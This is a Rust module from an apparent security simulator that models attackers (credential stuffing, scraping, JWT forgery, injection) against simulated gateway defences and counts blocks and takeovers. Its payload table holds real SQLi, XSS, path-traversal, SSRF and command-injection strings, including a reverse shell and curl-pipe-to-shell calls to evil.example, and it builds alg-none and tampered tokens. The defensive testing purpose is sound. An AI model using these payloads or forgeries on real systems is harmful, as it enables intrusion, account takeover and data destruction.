//! Attackers at run time: the state each `[[attack]]` entry of a scenario
//! (`rampart_world::AttackConfig`) needs while it sends.
//!
//! An attacker is an open arrival process (the same `rampart_traffic::Shape`s
//! as legit traffic) between `start` and `end`, sending from a pool of source IPs
//! against the routes and accounts of one `[[traffic]]` source (its
//! `target`). Its requests go through the same load balancer, gateway
//! instances and token service as legit ones, so the real rate limiter,
//! verifier, inspector and abuse detector decide about them; only what the
//! request *carries* differs (a leaked credential, a forged token, an
//! injection payload, a held connection). Each attacker is its own metrics
//! class `attack.<name>` (offered, admitted, rejected by reason, latency)
//! plus a few outcome counters, so conservation and success rates cover
//! attack traffic too.
//!
//! Nothing here keeps state per source IP: an attacker's address is a pure
//! function of its name and a pool index, so a botnet of a million IPs costs
//! the world nothing; only the cores' own capped tables grow with it.

use std::net::{IpAddr, Ipv4Addr};

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use rampart_auth::{KeyMaterial, ServiceConfig, TokenService};
use rampart_des::rng::{self, ActorRng, actor_rng};
use rampart_metrics::{ClassId, CounterId, GaugeId, Names};
use rampart_time::{Duration, Instant};
use rampart_traffic::Arrivals;
use rampart_world::{
    AttackConfig, AttackKind, Forgery, HOSTS_PER_SUBNET, PayloadClass, Rotation, SigningAlgorithm,
    WorldConfig,
};

use crate::error::{BuildError, MetricsError};
use crate::sources::Source;

const FORGERIES: [Forgery; 4] = [
    Forgery::AlgNone,
    Forgery::WrongKey,
    Forgery::Expired,
    Forgery::Tampered,
];

const PAYLOAD_CLASSES: [PayloadClass; 6] = [
    PayloadClass::Sqli,
    PayloadClass::Xss,
    PayloadClass::PathTraversal,
    PayloadClass::CommandInjection,
    PayloadClass::Ssrf,
    PayloadClass::Malformed,
];

/// Base payloads per class, in the style of the WAF crate's corpus.
fn bases(c: PayloadClass) -> &'static [&'static str] {
    match c {
        PayloadClass::Sqli => &[
            "' or 1=1--",
            "1 union all select null,null,version()",
            "admin'--",
            "1'; DROP TABLE users; --",
            "1 and sleep(5)",
            "' union select load_file('/etc/passwd')--",
            "1/**/or/**/1=1",
            "' OR 'unusual' = 'unusual'",
        ],
        PayloadClass::Xss => &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(document.cookie)",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<body onload=alert('x')>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<ScRiPt>alert(document.domain)</sCrIpT>",
        ],
        PayloadClass::PathTraversal => &[
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fshadow",
            "....//....//etc/passwd",
            "/proc/self/environ",
            "..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "../../../../../../boot.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fhosts",
        ],
        PayloadClass::CommandInjection => &[
            "; cat /etc/passwd",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "$(curl http://evil.example/x.sh | sh)",
            "`id`",
            "&& wget http://evil.example/a -O /tmp/a",
            "${jndi:ldap://evil.example/a}",
            "; rm -rf / --no-preserve-root",
            "|| ping -c 10 127.0.0.1",
        ],
        PayloadClass::Ssrf => &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://127.0.0.1:8080/admin",
            "http://[::1]/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://0x7f000001/",
            "http://localhost:22/",
            "http://10.0.0.1/internal",
        ],
        PayloadClass::Malformed => &[
            "%00",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/",
            "%zz%1",
            "\u{0}\u{1}\u{2}",
            "%u0027%u0020or%u0020%u0031",
            "&#x3c;script&#x3e;",
            "%252e%252e%252f",
            "\u{ff1c}script\u{ff1e}",
        ],
    }
}

/// Forged tokens prepared per forgery kind.
const FORGED_PER_KIND: usize = 8;
/// Payloads prepared per class.
const PAYLOADS_PER_CLASS: usize = 8;

/// Metric ids of one attacker, registered after the world's own names.
#[derive(Clone, Debug)]
pub(crate) struct AttackIds {
    pub class: ClassId,
    pub blocked: CounterId,
    pub takeovers: CounterId,
    pub login_cpu_ms: CounterId,
    pub gateway_cpu_us: CounterId,
    pub forged_accepted: CounterId,
    /// Forged-token attacks only: the subset of `forged_accepted` that an
    /// instance accepted only because a clock-skew fault set its clock back.
    pub forged_accepted_on_skew: Option<CounterId>,
    pub detected: CounterId,
    pub first_block_ms: GaugeId,
}

/// Registers every attacker's class and outcome metrics, in scenario order.
pub(crate) fn register(
    names: &mut Names,
    cfg: &WorldConfig,
) -> Result<Vec<AttackIds>, MetricsError> {
    let mut out = Vec::with_capacity(cfg.attack.len());
    for a in &cfg.attack {
        let n = &a.name;
        let c = |names: &mut Names, what: &str| names.add_counter(&format!("attack.{n}.{what}"));
        out.push(AttackIds {
            class: names.add_class(&format!("attack.{n}"))?,
            blocked: c(names, "blocked")?,
            takeovers: c(names, "takeovers")?,
            login_cpu_ms: c(names, "login_cpu_ms")?,
            gateway_cpu_us: c(names, "gateway_cpu_us")?,
            forged_accepted: c(names, "forged_accepted")?,
            forged_accepted_on_skew: match a.kind {
                AttackKind::ForgedTokens { .. } => Some(c(names, "forged_accepted_on_skew")?),
                _ => None,
            },
            detected: c(names, "detected")?,
            first_block_ms: names.add_gauge(&format!("attack.{n}.first_block_ms"))?,
        });
    }
    Ok(out)
}

/// An account the attacker signed up for, and its current access token.
#[derive(Debug)]
pub(crate) struct OwnAccount {
    pub subject: String,
    pub password: Vec<u8>,
    pub access: Option<std::sync::Arc<str>>,
    /// Unix-time expiry of `access`.
    pub access_exp: Instant,
}

/// A payload with real bytes, placed where the route takes input.
#[derive(Debug)]
pub(crate) struct Payload {
    pub query: String,
    pub body: Vec<u8>,
}

/// What became of one attacker, for [`crate::RunOutput::attacks`].
#[derive(Clone, Debug, Default, PartialEq)]
pub struct AttackOutcome {
    /// The attack's name.
    pub name: String,
    /// Its kind (`credential_stuffing`, ...).
    pub kind: &'static str,
    /// Attempts rejected by a defence (rate limit, verifier, inspector,
    /// abuse detector, header timeout), as opposed to overload or failed
    /// passwords.
    pub blocked: u64,
    /// Time from the attack's start to its first blocked attempt, if any.
    pub first_block: Option<Duration>,
    /// Time from the start to the first attempt an instance's own abuse
    /// detector stopped.
    pub first_local_abuse_block: Option<Duration>,
    /// Time from the start to the first attempt a central decision
    /// stopped (with a log pipeline).
    pub first_central_block: Option<Duration>,
    /// Accounts taken over (distinct), for credential stuffing.
    pub takeovers: u64,
    /// Password-check CPU its logins cost the token service.
    pub login_cpu: Duration,
    /// Gateway CPU its attempts cost.
    pub gateway_cpu: Duration,
    /// Forged tokens a verifier accepted.
    pub forged_accepted: u64,
    /// Of those, expired tokens accepted by an instance whose clock a
    /// `clock_skew` fault had set back: what the fault models, not a flaw
    /// of the verifier.
    pub forged_accepted_on_skew: u64,
    /// Payloads the inspector flagged (blocked, or logged in detection-only
    /// mode).
    pub detected: u64,
}

/// An attacker at run time.
#[derive(Debug)]
pub(crate) struct Attacker {
    pub cfg: AttackConfig,
    /// Metrics class index (the world's classes: 0 is legit).
    pub class: u16,
    /// The target traffic source.
    pub source: u16,
    /// Routes it sends to (indices in the target's mix).
    pub routes: Vec<u16>,
    pub login_route: Option<u16>,
    pub arrivals: Arrivals,
    pub rng: ActorRng,
    pub start: Instant,
    name_hash: u64,
    subnets: u32,
    ip_cursor: u64,
    /// Attempts begun (the leaked list's cursor for stuffing).
    pub seq: u64,
    pub accounts: Vec<OwnAccount>,
    pub forged: Vec<(Forgery, std::sync::Arc<str>)>,
    pub payloads: Vec<Payload>,
    /// `[policy index][payload]` → (blocked, flagged, bytes scanned).
    verdicts: Vec<Vec<Option<(bool, bool, u64)>>>,
    /// One bit per target account: taken over yet?
    taken: Vec<u64>,
    login_ns_carry: u64,
    gateway_ns_carry: u64,
    pub outcome: AttackOutcome,
}

/// Everything the world needs to build attackers.
pub(crate) struct BuildCtx<'a> {
    pub seed: u64,
    pub sources: &'a [Source],
    pub tokens: &'a mut TokenService,
    pub unix0: Instant,
    pub cfg: &'a WorldConfig,
}

impl Attacker {
    /// Builds attacker `index` (class `index + 1`): its target, its
    /// accounts (registered with the real token service), forged tokens and
    /// payloads.
    pub fn new(
        index: usize,
        a: &AttackConfig,
        b: &mut BuildCtx<'_>,
    ) -> Result<Attacker, BuildError> {
        let p = format!("attack[{index}]");
        let source = match &a.target {
            Some(t) => b
                .sources
                .iter()
                .position(|s| &s.spec.name == t)
                .ok_or_else(|| BuildError::UnknownTraffic {
                    path: format!("{p}.target"),
                    name: t.clone(),
                })?,
            None => 0,
        };
        let src = &b.sources[source];
        let routes: Vec<u16> = (0..src.n_routes() as u16)
            .filter(|&r| {
                let route = src.route(r);
                !route.login
                    && (a.routes.is_empty() || a.routes.contains(&route.name))
                    && (!matches!(a.kind, AttackKind::ForgedTokens { .. }) || route.auth)
            })
            .collect();
        let seed = b.seed;
        let start = Instant::ZERO + a.start;
        let mut accounts = Vec::new();
        let (n_accounts, stolen) = match a.kind {
            AttackKind::Injection { accounts, .. } => (accounts, 0),
            AttackKind::Scraping { accounts, stolen } => (accounts, stolen),
            _ => (0, 0),
        };
        for k in 0..stolen.min(src.n_accounts()) {
            let victim = src.account(k);
            accounts.push(OwnAccount {
                subject: victim.subject.clone(),
                password: victim.password.clone(),
                access: None,
                access_exp: Instant::ZERO,
            });
        }
        for i in 0..n_accounts {
            let subject = format!("attack-{}-{i}", a.name);
            let password = format!("pw-attack-{}-{i}", a.name).into_bytes();
            let mut salt = [0xa5u8; 16];
            salt[..4].copy_from_slice(&i.to_le_bytes());
            salt[4..6].copy_from_slice(&(index as u16).to_le_bytes());
            b.tokens
                .register_account(&subject, &password, salt)
                .map_err(|source| BuildError::Account {
                    path: format!("{p}.accounts"),
                    source,
                })?;
            accounts.push(OwnAccount {
                subject,
                password,
                access: None,
                access_exp: Instant::ZERO,
            });
        }
        let forged = match &a.kind {
            AttackKind::ForgedTokens { forgery } => forge(a, forgery, b, source)?,
            _ => Vec::new(),
        };
        let payloads = match &a.kind {
            AttackKind::Injection { classes, .. } => payloads(classes),
            _ => Vec::new(),
        };
        let n_target = src.n_accounts();
        let subnets = if a.subnets == 0 {
            a.ips.div_ceil(HOSTS_PER_SUBNET as u32)
        } else {
            a.subnets
        };
        Ok(Attacker {
            class: index as u16 + 1,
            source: source as u16,
            routes,
            login_route: src.login_route(),
            arrivals: Arrivals::new(&a.shape, a.process, start, Some(Instant::ZERO + a.end)),
            rng: actor_rng(seed, &format!("attack/{}", a.name)),
            start,
            name_hash: rng::fnv1a64(a.name.as_bytes()),
            subnets: subnets.max(1),
            ip_cursor: 0,
            seq: 0,
            accounts,
            forged,
            payloads,
            verdicts: Vec::new(),
            taken: vec![0; (n_target as usize).div_ceil(64)],
            login_ns_carry: 0,
            gateway_ns_carry: 0,
            outcome: AttackOutcome {
                name: a.name.clone(),
                kind: a.kind.as_str(),
                ..AttackOutcome::default()
            },
            cfg: a.clone(),
        })
    }

    /// The source address of the next attempt.
    pub fn next_ip(&mut self) -> IpAddr {
        let ips = u64::from(self.cfg.ips);
        let i = match self.cfg.rotation {
            Rotation::LowAndSlow => self.ip_cursor % ips,
            Rotation::Random => rng::uniform_u64(&mut self.rng, 0, ips),
            Rotation::Bursty { burst } => (self.ip_cursor / u64::from(burst)) % ips,
        };
        self.ip_cursor += 1;
        pool_ip(self.name_hash, i as u32, self.subnets)
    }

    /// A route to send to, uniformly among the chosen ones.
    pub fn pick_route(&mut self) -> u16 {
        let k = rng::uniform_u64(&mut self.rng, 0, self.routes.len() as u64) as usize;
        self.routes[k]
    }

    /// The leaked pair of stuffing attempt `combo`: `(target account, real
    /// password?)`. A share `valid_ratio` of the list is a real account's
    /// current password; of the rest, half name a real account with a
    /// wrong password and half name nobody.
    pub fn combo(&self, combo: u64, n_accounts: u32) -> (Option<u32>, bool) {
        let AttackKind::CredentialStuffing { valid_ratio, .. } = self.cfg.kind else {
            return (None, false);
        };
        let h = splitmix(self.name_hash ^ combo.wrapping_mul(0x9e37_79b9_7f4a_7c15));
        let u = (h >> 11) as f64 / (1u64 << 53) as f64;
        let account = (splitmix(h) % u64::from(n_accounts.max(1))) as u32;
        if u < valid_ratio {
            (Some(account), true)
        } else if h & 1 == 0 {
            (Some(account), false)
        } else {
            (None, false)
        }
    }

    /// Records a successful login with a leaked pair; true if it is a new
    /// takeover.
    pub fn take_over(&mut self, account: u32) -> bool {
        let (w, b) = (account as usize / 64, account % 64);
        let Some(word) = self.taken.get_mut(w) else {
            return false;
        };
        let new = *word & (1 << b) == 0;
        *word |= 1 << b;
        if new {
            self.outcome.takeovers += 1;
        }
        new
    }

    /// Adds password-check CPU; returns whole milliseconds to count now.
    pub fn add_login_cpu(&mut self, cpu: Duration) -> u64 {
        self.outcome.login_cpu += cpu;
        carry(&mut self.login_ns_carry, cpu.as_nanos(), 1_000_000)
    }

    /// Adds gateway CPU; returns whole microseconds to count now.
    pub fn add_gateway_cpu(&mut self, cpu: Duration) -> u64 {
        self.outcome.gateway_cpu += cpu;
        carry(&mut self.gateway_ns_carry, cpu.as_nanos(), 1_000)
    }

    /// The inspector's verdict on payload `k` under `policy`: (blocked,
    /// flagged, bytes scanned). The inspector is a pure function of request
    /// and rules, so the verdict is computed once per (payload, policy).
    pub fn payload_verdict(
        &mut self,
        policy: &rampart_gateway::CompiledPolicy,
        route: &rampart_traffic::Route,
        k: usize,
    ) -> (bool, bool, u64) {
        let pi = policy.index as usize;
        if self.verdicts.len() <= pi {
            self.verdicts.resize_with(pi + 1, Vec::new);
        }
        if self.verdicts[pi].is_empty() {
            self.verdicts[pi] = vec![None; self.payloads.len()];
        }
        if let Some(v) = self.verdicts[pi][k] {
            return v;
        }
        let pl = &self.payloads[k];
        let method = crate::templates::method_str(route.method);
        let ip = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 66));
        let writes = matches!(method, "POST" | "PUT" | "PATCH");
        let mut req = rampart_waf::Request::new(method, &route.path, ip);
        let bytes;
        if writes {
            req = req.with_body("application/json", &pl.body);
            bytes = method.len() + route.path.len() + pl.body.len();
        } else {
            req = req.with_query(&pl.query);
            bytes = method.len() + route.path.len() + pl.query.len();
        }
        let v = rampart_gateway::inspect(policy, &req, bytes as u64);
        let out = (v.blocked, v.flagged, v.bytes);
        self.verdicts[pi][k] = Some(out);
        out
    }
}

fn carry(acc: &mut u64, ns: u64, unit: u64) -> u64 {
    *acc += ns;
    let whole = *acc / unit;
    *acc %= unit;
    whole
}

/// SplitMix64 finaliser: a fixed, well-mixed hash of a word.
fn splitmix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Address `i` of a pool spread over `subnets` /24 prefixes: consecutive
/// indices land in different prefixes, hosts 1..=254 within each.
pub(crate) fn pool_ip(name_hash: u64, i: u32, subnets: u32) -> IpAddr {
    let prefix = i % subnets;
    let host = i / subnets;
    let h = splitmix(name_hash ^ (u64::from(prefix) << 1 | 1));
    let mut o = [(h >> 8) as u8, (h >> 16) as u8, (h >> 24) as u8, 0];
    // Public unicast space: first octet in 1..=223, away from 10 and 127.
    o[0] = 1 + (o[0] % 223);
    if o[0] == 10 || o[0] == 127 {
        o[0] += 1;
    }
    // Keep the prefix distinct from its neighbours even when the hash
    // collides: the low bits of the third octet follow the prefix index.
    o[2] ^= (prefix & 0xff) as u8;
    o[3] = 1 + (host % HOSTS_PER_SUBNET as u32) as u8;
    IpAddr::V4(Ipv4Addr::from(o))
}

/// Prepares forged tokens for the configured forgeries, through the auth
/// crate's own APIs: the real service issues the tokens that are then
/// edited (alg none, tampered) or left to expire, and a second service with
/// the attacker's key signs the wrong-key ones. No signature is computed by
/// hand.
fn forge(
    a: &AttackConfig,
    kinds: &[Forgery],
    b: &mut BuildCtx<'_>,
    source: usize,
) -> Result<Vec<(Forgery, std::sync::Arc<str>)>, BuildError> {
    let kinds: &[Forgery] = if kinds.is_empty() { &FORGERIES } else { kinds };
    let sources = b.sources;
    let src = &sources[source];
    let n = src.n_accounts().max(1);
    let subject = |k: usize| src.account(k as u32 % n).subject.clone();
    let ttl = b.cfg.token_service.access_ttl;
    // The attacker's own service: same issuer, audience and kid, its own key.
    let mut rogue = TokenService::new(ServiceConfig {
        access_ttl: ttl,
        refresh_ttl: b.cfg.token_service.refresh_ttl,
        issuer: b.cfg.policy.auth.issuer.clone(),
        audience: b.cfg.policy.auth.audience.clone(),
        ..ServiceConfig::default()
    });
    let mut key_rng = actor_rng(b.seed, &format!("attack/{}/key", a.name));
    let mut secret = [0u8; 32];
    rand::RngExt::fill(&mut key_rng, &mut secret[..]);
    let key_at = b.unix0 - b.cfg.token_service.refresh_ttl;
    let material = match b.cfg.token_service.algorithm {
        SigningAlgorithm::EdDsa => KeyMaterial::Ed25519 {
            kid: "k1".into(),
            secret,
        },
        SigningAlgorithm::Hs256 => KeyMaterial::Hs256 {
            kid: "k1".into(),
            secret: secret.to_vec(),
        },
    };
    let err = |source| BuildError::Forge {
        attack: a.name.clone(),
        source,
    };
    rogue.add_key(key_at, &material).map_err(err)?;
    let mut out = Vec::new();
    for k in 0..FORGED_PER_KIND {
        for &f in kinds {
            let token = match f {
                Forgery::WrongKey => {
                    rogue
                        .issue(b.unix0, &subject(k), "api")
                        .map_err(err)?
                        .access
                }
                Forgery::Expired => {
                    // Expired ten minutes before the run began: a stolen
                    // token kept past its life. Only a verifier with more
                    // than ten minutes of leeway takes it.
                    let issued = b.unix0 - ttl - Duration::from_mins(10);
                    b.tokens
                        .issue(issued, &subject(k), "api")
                        .map_err(err)?
                        .access
                }
                Forgery::AlgNone => {
                    let real = b
                        .tokens
                        .issue(b.unix0, &subject(k), "api")
                        .map_err(err)?
                        .access;
                    let header = format!(
                        r#"{{"alg":"none","typ":"{}","kid":"k1"}}"#,
                        rampart_auth::TYP_ACCESS
                    );
                    let payload = real.split('.').nth(1).unwrap_or_default();
                    format!("{}.{payload}.", URL_SAFE_NO_PAD.encode(header))
                }
                Forgery::Tampered => {
                    let real = b
                        .tokens
                        .issue(b.unix0, &subject(k), "api")
                        .map_err(err)?
                        .access;
                    tamper(&real).ok_or_else(|| BuildError::Tamper {
                        attack: a.name.clone(),
                    })?
                }
            };
            out.push((f, token.into()));
        }
    }
    Ok(out)
}

/// Rewrites a real token's claims (`sub` → `admin`, wider `scope`) and keeps
/// its signature: what an attacker who can read a token but not sign one
/// tries first.
fn tamper(token: &str) -> Option<String> {
    let mut parts = token.split('.');
    let (h, p, s) = (parts.next()?, parts.next()?, parts.next()?);
    let raw = URL_SAFE_NO_PAD.decode(p).ok()?;
    let mut claims: serde_json::Value = serde_json::from_slice(&raw).ok()?;
    let obj = claims.as_object_mut()?;
    obj.insert("sub".into(), serde_json::Value::String("admin".into()));
    obj.insert(
        "scope".into(),
        serde_json::Value::String("api admin".into()),
    );
    let edited = serde_json::to_vec(&claims).ok()?;
    Some(format!("{h}.{}.{s}", URL_SAFE_NO_PAD.encode(edited)))
}

/// Payloads for the classes asked for (all when empty), interleaved so
/// consecutive indices rotate through classes.
fn payloads(classes: &[PayloadClass]) -> Vec<Payload> {
    let classes: &[PayloadClass] = if classes.is_empty() {
        &PAYLOAD_CLASSES
    } else {
        classes
    };
    let mut out = Vec::new();
    for k in 0..PAYLOADS_PER_CLASS {
        for &c in classes {
            let list = bases(c);
            let raw = list[k % list.len()];
            let query = format!("q={}&page=1", query_encode(raw));
            let body = if c == PayloadClass::Malformed && k % 2 == 0 {
                // A truncated JSON document carrying the payload.
                format!("{{\"q\":\"{}\",\"items\":[1,2", json_escape(raw)).into_bytes()
            } else {
                format!("{{\"q\":\"{}\",\"page\":1}}", json_escape(raw)).into_bytes()
            };
            out.push(Payload { query, body });
        }
    }
    out
}

/// Encodes what a browser would in a query value; existing `%` escapes are
/// kept, since attackers send pre-encoded evasions on purpose.
fn query_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for &b in s.as_bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' | b'%' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn json_escape(s: &str) -> String {
    let quoted = serde_json::to_string(s).expect("a string always serialises");
    quoted[1..quoted.len() - 1].to_owned()
}

#[cfg(test)]
mod unit {
    use super::*;

    #[test]
    fn pool_addresses_are_distinct_within_a_pool_and_spread_over_the_asked_prefixes() {
        let h = rng::fnv1a64(b"bots");
        let mut seen = std::collections::BTreeSet::new();
        let mut prefixes = std::collections::BTreeSet::new();
        for i in 0..2_540 {
            let IpAddr::V4(a) = pool_ip(h, i, 10) else {
                panic!("v4")
            };
            seen.insert(a);
            let o = a.octets();
            prefixes.insert([o[0], o[1], o[2]]);
            assert!(o[0] != 10 && o[0] != 127 && o[0] <= 224 && o[3] >= 1);
        }
        assert_eq!(seen.len(), 2_540);
        assert_eq!(prefixes.len(), 10);
    }

    #[test]
    fn the_leaked_list_holds_about_the_valid_ratio_of_real_passwords() {
        let cfg: AttackConfig = toml::from_str(
            r#"
            name = "s"
            kind = "credential_stuffing"
            start = "0s"
            end = "1s"
            shape = { kind = "constant", rate = "1/s" }
            valid_ratio = 0.1
            "#,
        )
        .unwrap();
        let a = Attacker {
            name_hash: rng::fnv1a64(b"s"),
            ..dummy(cfg)
        };
        let valid = (0..20_000).filter(|&c| a.combo(c, 500).1).count();
        assert!((1_800..2_200).contains(&valid), "{valid}");
    }

    #[test]
    fn tampering_keeps_the_signature_and_changes_the_subject() {
        let claims = URL_SAFE_NO_PAD.encode(br#"{"sub":"alice","scope":"api"}"#);
        let t = format!("aGVhZA.{claims}.c2ln");
        let out = tamper(&t).unwrap();
        let parts: Vec<&str> = out.split('.').collect();
        assert_eq!(parts[0], "aGVhZA");
        assert_eq!(parts[2], "c2ln");
        let edited = String::from_utf8(URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
        assert!(edited.contains("\"sub\":\"admin\""), "{edited}");
    }

    fn dummy(cfg: AttackConfig) -> Attacker {
        Attacker {
            class: 1,
            source: 0,
            routes: vec![0],
            login_route: None,
            arrivals: Arrivals::new(&cfg.shape, cfg.process, Instant::ZERO, None),
            rng: actor_rng(0, "x"),
            start: Instant::ZERO,
            name_hash: 0,
            subnets: 1,
            ip_cursor: 0,
            seq: 0,
            accounts: Vec::new(),
            forged: Vec::new(),
            payloads: Vec::new(),
            verdicts: Vec::new(),
            taken: Vec::new(),
            login_ns_carry: 0,
            gateway_ns_carry: 0,
            outcome: AttackOutcome::default(),
            cfg,
        }
    }
}
